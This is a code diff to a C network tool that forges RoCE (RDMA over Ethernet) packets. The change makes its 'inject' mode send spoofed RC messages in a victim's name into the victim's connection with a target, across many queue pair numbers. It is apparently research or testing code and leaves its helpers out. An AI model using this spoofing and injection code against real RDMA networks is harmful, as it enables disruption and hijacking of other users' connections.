@@ -4,7 +4,8 @@
  *
  *     addresses witness SECONDS           a process that counts what it receives
  *     addresses forge TARGET VICTIM       some of each kind, towards TARGET, in VICTIM's name
- *     addresses inject TARGET VICTIM PSN  an RC message into the connection of VICTIM and TARGET
+ *     addresses inject TARGET VICTIM PSN  an RC message into the connection of VICTIM and TARGET, with
+ *                                         the mark of the victim's slot 0 and that of the own
  *     addresses offend TARGET VICTIM      forged frames until nothing is taken, then one of its own
  *                                         until that is
  */
@@ -122,9 +123,18 @@ static int inject(const char *target, const char *victim, uint32_t psn)
     struct raw r;
 
     raw_open(&r, NULL, 0, -1);
-    for (uint32_t i = 0; i < QPNS; i++)
-        raw_send(&r, raw_rc(&r, ROCE_OP_RC_SEND_ONLY, raw_ip(&r, victim), raw_ip(&r, target),
-                            raw_qpn0(0) + i, psn, PAYLOAD, 16));
+    for (uint32_t i = 0; i < 2 * QPNS; i++) {
+        struct roce_pkt p = {.opcode = ROCE_OP_RC_SEND_ONLY,
+                             .src_ip = raw_ip(&r, victim),
+                             .dst_ip = raw_ip(&r, target),
+                             .dqpn = raw_qpn0(0) + i / 2,
+                             .psn = psn,
+                             .mark = i % 2 ? 1 : 0,
+                             .ack_req = true,
+                             .len = 16};
+
+        raw_send(&r, raw_roce(&r, &p, PAYLOAD));
+    }
     raw_flush(&r, 2000);
     printf("sent %llu from slot %d\n", (unsigned long long)r.sent, r.slot);
     raw_close(&r);
